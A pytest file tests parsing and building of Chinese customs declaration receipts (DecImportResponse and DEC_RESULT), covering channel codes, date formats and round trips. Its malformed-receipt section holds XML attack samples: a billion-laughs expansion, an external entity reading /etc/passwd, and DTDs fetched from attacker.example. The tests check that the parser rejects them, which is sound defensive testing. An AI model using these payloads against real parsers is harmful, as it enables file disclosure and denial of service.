"""报关单回执: DecImportResponse and DEC_RESULT, parsed safely and built for the simulator."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guanwu.declarations.models import DeclarationStatus
from guanwu.messages.dec import (
    CHANNEL_STATUS,
    DecResult,
    ImportResponse,
    ReceiptError,
    build_dec_result,
    build_import_response,
    channel_status,
    channel_text,
    parse_dec_result,
    parse_import_response,
    parse_receipt,
    receipt_dedupe_key,
)
from guanwu.messages.dec.receipts import CHANNEL_FILE, CHINA, MAX_RECEIPT_BYTES, channel_table, parse_notice_date
from tests.conftest import shared_file

RAW_CHANNELS = "data/raw/receipt_codes/dec_result_channel.csv"  # in ../shared
CODES = [row["code"] for row in csv.DictReader(CHANNEL_FILE.open(encoding="utf-8"))]

SW_RESULT = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<DEC_RESULT>
  <CUS_CIQ_NO>I20240000147015879</CUS_CIQ_NO>
  <ENTRY_ID></ENTRY_ID>
  <NOTICE_DATE>2024-11-04T14:40:43</NOTICE_DATE>
  <CHANNEL>7</CHANNEL>
  <NOTE>I20240000147015879,I20240000147015879直接申报成功</NOTE>
  <CUSTOM_MASTER></CUSTOM_MASTER>
  <I_E_DATE></I_E_DATE>
  <D_DATE></D_DATE>
</DEC_RESULT>
""".encode()

QP_RESULT = """<?xml version="1.0" encoding="UTF-8"?>
<DEC_DATA>
  <DEC_RESULT>
    <SEQ_NO>224820241000123456</SEQ_NO>
    <ENTRY_ID>224820241000012345</ENTRY_ID>
    <NOTICE_DATE>2024-11-05 09:12:01</NOTICE_DATE>
    <CHANNEL>P</CHANNEL>
    <NOTE>报关单放行</NOTE>
    <DECL_PORT>2248</DECL_PORT>
    <AGENT_NAME>甲企业</AGENT_NAME>
    <DECLARE_NO>61019300</DECLARE_NO>
    <TRADE_CO>6101930001</TRADE_CO>
    <CUSTOMS_FIELD>2248</CUSTOMS_FIELD>
    <BONDED_NO/>
    <I_E_DATE>20241104</I_E_DATE>
    <PACK_NO>120</PACK_NO>
    <BILL_NO>MEDUXY123456</BILL_NO>
    <TRAF_MODE>2</TRAF_MODE>
    <VOYAGE_NO>FE446W</VOYAGE_NO>
    <NET_WT>1380.25</NET_WT>
    <GROSS_WT>1520.5</GROSS_WT>
    <D_DATE>2024-11-04</D_DATE>
  </DEC_RESULT>
  <RESULT_INFO>放行，请提货</RESULT_INFO>
</DEC_DATA>
""".encode()

RESPONSE_OK = b"""<?xml version="1.0" encoding="UTF-8"?>
<DecImportResponse xmlns="http://www.chinaport.gov.cn/dec">
  <ResponseCode>0</ResponseCode>
  <ErrorMessage></ErrorMessage>
  <ClientSeqNo>610193000100000001</ClientSeqNo>
  <SeqNo>224820241000123456</SeqNo>
  <TrnPreId/>
</DecImportResponse>
"""

RESPONSE_FAILED = """<?xml version="1.0" encoding="UTF-8"?>
<DecImportResponse>
  <ResponseCode>1</ResponseCode>
  <ErrorMessage>表头申报单位代码[6101930001]与操作员所在企业不一致</ErrorMessage>
  <ClientSeqNo>610193000100000001</ClientSeqNo>
</DecImportResponse>
""".encode()


# ------------------------------------------------------------------------------ channels

def test_channel_table_holds_the_raw_codes_and_names_its_sources():
    """Receipt channels checked against public code lists: every code of the raw table (S1) is
    in the packaged one, every row names its sources (S1/S2/S3, see receipts.py), and the rows
    resting on one source only say so (K) or are S1's own codes (QP import codes, lower-case v)."""
    table = channel_table()
    for code, row in table.items():
        sources = row["sources"].split()
        assert sources and set(sources) <= {"S1", "S2", "S3"}, code
        if len(sources) == 1 and sources != ["S1"]:
            assert "one public source only" in row["note"], code
    assert {c for c, r in table.items() if len(r["sources"].split()) >= 2} >= set("LHGTMJWCFXIPBREZDAY")
    raw_file = shared_file(RAW_CHANNELS)
    raw = {row["code"]: row["name_cn"] for row in csv.DictReader(raw_file.open(encoding="utf-8"))}
    assert set(raw) <= set(table)


def test_every_channel_code_maps_to_a_declaration_status():
    assert set(CHANNEL_STATUS) == set(CODES)
    assert set(CHANNEL_STATUS.values()) <= set(DeclarationStatus.values)
    assert set(CHANNEL_STATUS.values()) == set(DeclarationStatus.values) - {DeclarationStatus.DRAFT}


CHANNEL_CASES = [
    ("0", "declared", "导入成功"), ("1", "failed", "导入失败"), ("2", "declared", "QP接收成功，上载发往数据中心"),
    ("6", "declared", "QP接收成功，申报发往数据中心"), ("N", "failed", "重传文件"), ("3", "declared", "上载成功"),
    ("4", "failed", "上载失败"), ("7", "declared", "申报成功"), ("8", "failed", "上载未申报（无申报权限）"),
    ("9", "failed", "上载申报失败（与数据中心联系）"), ("L", "accepted", "海关已接收"), ("B", "released", "担保放行"),
    ("E", "rejected", "不被受理"), ("H", "accepted", "需手工申报"), ("v", "rejected", "退回修改"),
    ("G", "accepted", "报关单已审结"), ("F", "accepted", "放行交单"), ("T", "accepted", "需交税费"),
    ("Y", "failed", "申报失败"), ("D", "rejected", "海关删单"), ("M", "accepted", "报关单重审"),
    ("R", "closed", "已结关"), ("W", "accepted", "无纸验放通知（审结）"),
    ("I", "released", "无纸放行通知（放行）"), ("C", "accepted", "出口查验通知"), ("P", "released", "报关单放行"),
    # S2/S3 codes the raw table lacked (issue 12): J 审结, K 担保放行, Z 退回修改, A 放行前删除, X 准予进港.
    ("J", "accepted", "通关无纸化审结"), ("K", "released", "通关无纸化担保放行"), ("Z", "rejected", "退回修改"),
    ("A", "rejected", "放行前删除"), ("X", "accepted", "海关准予进港（洋山保税港区专用）"),
]


@pytest.mark.parametrize(("code", "status", "text"), CHANNEL_CASES)
def test_each_channel_code_is_parsed_with_its_text_and_status(code, status, text):
    assert code in CODES
    result = DecResult(seq_no="224820241000123456", channel=code, notice_date=dt.datetime(2024, 11, 4, 9, 0,
                                                                                       tzinfo=CHINA))
    parsed = parse_receipt(build_dec_result(result))
    assert parsed == result
    assert parsed.channel == code
    assert parsed.channel_text == channel_text(code) == text
    assert parsed.implied_status == channel_status(code) == status


def test_all_codes_are_covered_by_the_table_test():
    assert sorted(code for code, _status, _text in CHANNEL_CASES) == sorted(CODES)


def test_unknown_channel_is_read_but_implies_nothing():
    result = parse_dec_result(b"<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>Q</CHANNEL></DEC_RESULT>")
    assert result.channel_text == "未知回执类型(Q)"
    assert result.implied_status is None


def test_channel_codes_are_case_sensitive():
    assert channel_status("v") == "rejected"
    assert channel_status("V") is None


# -------------------------------------------------------------------------------- parsing

def test_parse_single_window_dec_result():
    result = parse_receipt(SW_RESULT)
    assert isinstance(result, DecResult)
    assert result.kind == "result"
    assert result.seq_no == "I20240000147015879"
    assert result.entry_id == ""
    assert result.channel == "7" and result.implied_status == "declared"
    assert result.notice_date == dt.datetime(2024, 11, 4, 14, 40, 43, tzinfo=CHINA)
    assert result.note.endswith("直接申报成功")


def test_parse_qp_dec_data():
    result = parse_dec_result(QP_RESULT)
    assert result.seq_no == "224820241000123456"
    assert result.entry_id == "224820241000012345"
    assert result.channel_text == "报关单放行" and result.implied_status == "released"
    assert result.notice_date == dt.datetime(2024, 11, 5, 9, 12, 1, tzinfo=CHINA)
    assert (result.decl_port, result.trade_co, result.bill_no, result.ie_date) == (
        "2248", "6101930001", "MEDUXY123456", "20241104"
    )
    assert (result.pack_no, result.net_wt, result.gross_wt, result.d_date) == ("120", "1380.25", "1520.5", "2024-11-04")
    assert result.result_info == "放行，请提货"


def test_parse_namespaced_dec_result():
    xml = SW_RESULT.replace(b"<DEC_RESULT>", b'<DEC_RESULT xmlns="http://www.chinaport.gov.cn/dec">')
    assert parse_dec_result(xml).seq_no == "I20240000147015879"


def test_parse_import_response_success_and_failure():
    ok = parse_receipt(RESPONSE_OK)
    assert ok == ImportResponse(client_seq_no="610193000100000001", response_code="0", seq_no="224820241000123456")
    assert ok.ok and ok.implied_status == "declared" and ok.text == "导入成功" and ok.kind == "response"
    failed = parse_import_response(RESPONSE_FAILED)
    assert not failed.ok and failed.implied_status == "failed"
    assert failed.seq_no == ""
    assert failed.text == "表头申报单位代码[6101930001]与操作员所在企业不一致"


def test_gbk_receipt_is_read():
    xml = '<?xml version="1.0" encoding="GBK"?><DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>L</CHANNEL>' \
          "<NOTE>海关已接收</NOTE></DEC_RESULT>"
    assert parse_dec_result(xml.encode("gbk")).note == "海关已接收"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2018-12-12T14:40:43", dt.datetime(2018, 12, 12, 14, 40, 43, tzinfo=CHINA)),
        ("2018-12-12 14:40:43", dt.datetime(2018, 12, 12, 14, 40, 43, tzinfo=CHINA)),
        ("2018-12-12T14:40:43.250", dt.datetime(2018, 12, 12, 14, 40, 43, 250000, tzinfo=CHINA)),
        ("20181212144043", dt.datetime(2018, 12, 12, 14, 40, 43, tzinfo=CHINA)),
        ("2018121214404312", dt.datetime(2018, 12, 12, 14, 40, 43, tzinfo=CHINA)),
        ("2018-12-12T06:40:43+00:00", dt.datetime(2018, 12, 12, 6, 40, 43, tzinfo=dt.UTC)),
        ("", None),
    ],
)
def test_notice_date_formats(text, expected):
    assert parse_notice_date(text) == expected


# -------------------------------------------------------------------------------- building

def test_dec_result_round_trip_in_both_shapes():
    full = DecResult(
        seq_no="224820241000123456", channel="R", entry_id="224820241000012345",
        notice_date=dt.datetime(2024, 11, 20, 16, 5, 9, tzinfo=CHINA), note="已结关 <&>", decl_port="2248",
        agent_name="甲企业", declare_no="61019300", trade_co="6101930001", customs_field="2248", bonded_no="",
        ie_date="20241104", pack_no="120", bill_no="MEDUXY123456", traf_mode="2", voyage_no="FE446W",
        net_wt="1380.25", gross_wt="1520.5", d_date="2024-11-04", result_info="结关",
    )
    assert parse_dec_result(build_dec_result(full)) == full
    sw = DecResult(seq_no="224820241000123456", channel="L", entry_id="224820241000012345",
                   notice_date=dt.datetime(2024, 11, 4, 10, 30, tzinfo=CHINA), note="入库", custom_master="2248",
                   ie_date="20241104", d_date="2024-11-04")
    xml = build_dec_result(sw, form="sw")
    assert xml.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<DEC_RESULT>\n  <CUS_CIQ_NO>')
    assert parse_dec_result(xml) == sw


def test_dec_result_notice_date_is_written_in_china_time():
    result = DecResult(seq_no="1", channel="L", notice_date=dt.datetime(2024, 11, 4, 2, 30, tzinfo=dt.UTC))
    assert b"<NOTICE_DATE>2024-11-04T10:30:00</NOTICE_DATE>" in build_dec_result(result)


def test_import_response_round_trip():
    for response in (
        ImportResponse(client_seq_no="610193000100000001", response_code="0", error_message="导入成功",
                       seq_no="224820241000123456", trn_pre_id="224820241000654321"),
        ImportResponse(client_seq_no="610193000100000002", response_code="1", error_message="商品编号不存在"),
    ):
        xml = build_import_response(response)
        assert b'<DecImportResponse xmlns="http://www.chinaport.gov.cn/dec">' in xml
        assert parse_import_response(xml) == response


def test_an_import_response_without_its_empty_elements_reads_as_empty_text():
    """The single window may leave out the elements it has nothing for (ErrorMessage on success,
    SeqNo and TrnPreId on failure): they read as empty text, so the receipt is recorded with an
    empty note and a failure still reads 导入失败 (mutation testing: no test had such a file)."""
    ok = parse_import_response(b"<DecImportResponse><ResponseCode>0</ResponseCode>"
                               b"<ClientSeqNo>610193000100000001</ClientSeqNo></DecImportResponse>")
    assert ok == ImportResponse(client_seq_no="610193000100000001", response_code="0")
    assert (ok.error_message, ok.seq_no, ok.trn_pre_id) == ("", "", "")
    failed = parse_import_response(b"<DecImportResponse><ResponseCode>1</ResponseCode>"
                                   b"<ClientSeqNo>610193000100000001</ClientSeqNo></DecImportResponse>")
    assert (failed.error_message, failed.text) == ("", "导入失败")


def test_dedupe_key_is_stable():
    assert receipt_dedupe_key(QP_RESULT) == receipt_dedupe_key(bytes(QP_RESULT))
    assert receipt_dedupe_key(QP_RESULT) != receipt_dedupe_key(SW_RESULT)
    assert len(receipt_dedupe_key(b"")) == 64


# ---------------------------------------------------------------------- malformed receipts

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>L</CHANNEL><NOTE>&lol4;</NOTE></DEC_RESULT>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>L</CHANNEL><NOTE>&xxe;</NOTE></DEC_RESULT>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE DecImportResponse SYSTEM "http://attacker.example/receipt.dtd">
<DecImportResponse><ResponseCode>0</ResponseCode><ClientSeqNo>1</ClientSeqNo></DecImportResponse>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<DEC_RESULT/>"""


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        (b"", "回执为空"),
        (b"  \n ", "回执为空"),
        (b"\x00\xff\xfe garbage \x89PNG", "回执不是格式正确的XML"),
        (b"this is not xml", "回执不是格式正确的XML"),
        (b"<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO>", "回执不是格式正确的XML"),
        (b"<Receipt><Code>0</Code></Receipt>", "不认识的回执"),
        (b"<DecMessage/>", "不认识的回执"),
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
        (b"<DecImportResponse><ResponseCode>0</ResponseCode></DecImportResponse>", "ClientSeqNo"),
        (b"<DecImportResponse><ClientSeqNo>1</ClientSeqNo></DecImportResponse>", "ResponseCode"),
        (b"<DEC_RESULT><CHANNEL>L</CHANNEL></DEC_RESULT>", "CUS_CIQ_NO/SEQ_NO"),
        (b"<DEC_DATA><DEC_RESULT><SEQ_NO>  </SEQ_NO><CHANNEL>L</CHANNEL></DEC_RESULT></DEC_DATA>", "SEQ_NO"),
        (b"<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO></DEC_RESULT>", "CHANNEL"),
        (b"<DEC_DATA><RESULT_INFO>x</RESULT_INFO></DEC_DATA>", "缺少DEC_RESULT"),
        (b"<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>L</CHANNEL><NOTICE_DATE>yesterday</NOTICE_DATE>"
         b"</DEC_RESULT>", "回执时间格式不正确"),
        (b"<DEC_RESULT><CUS_CIQ_NO>1</CUS_CIQ_NO><CHANNEL>L</CHANNEL><NOTICE_DATE>20241399000000</NOTICE_DATE>"
         b"</DEC_RESULT>", "回执时间无效"),
        (b'<?xml version="1.0" encoding="GB2312"?><DEC_RESULT>\xff\xff</DEC_RESULT>', "GB编码"),
        ("<DEC_RESULT/>", "字节串"),
        (None, "字节串"),
    ],
)
def test_malformed_receipts_raise_receipt_error(raw, message):
    with pytest.raises(ReceiptError, match=message):
        parse_receipt(raw)


def test_specific_parsers_refuse_the_other_receipt():
    with pytest.raises(ReceiptError, match="不是导入回执"):
        parse_import_response(QP_RESULT)
    with pytest.raises(ReceiptError, match="不是报关单业务回执"):
        parse_dec_result(RESPONSE_OK)


def test_oversized_receipt_is_refused():
    with pytest.raises(ReceiptError, match="回执过大"):
        parse_receipt(b"<DEC_RESULT>" + b" " * MAX_RECEIPT_BYTES + b"</DEC_RESULT>")


@settings(max_examples=300)
@given(st.binary(max_size=300))
def test_any_bytes_give_a_receipt_or_a_receipt_error(raw):
    try:
        parse_receipt(raw)
    except ReceiptError as exc:
        assert str(exc)


@settings(max_examples=200)
@given(st.text(max_size=60).map(lambda t: f"<DEC_RESULT><CUS_CIQ_NO>{t}</CUS_CIQ_NO><CHANNEL>L</CHANNEL>"
                                          f"<NOTICE_DATE>{t}</NOTICE_DATE></DEC_RESULT>".encode()))
def test_arbitrary_text_inside_a_receipt_never_escapes_as_another_error(raw):
    with contextlib.suppress(ReceiptError):
        parse_receipt(raw)
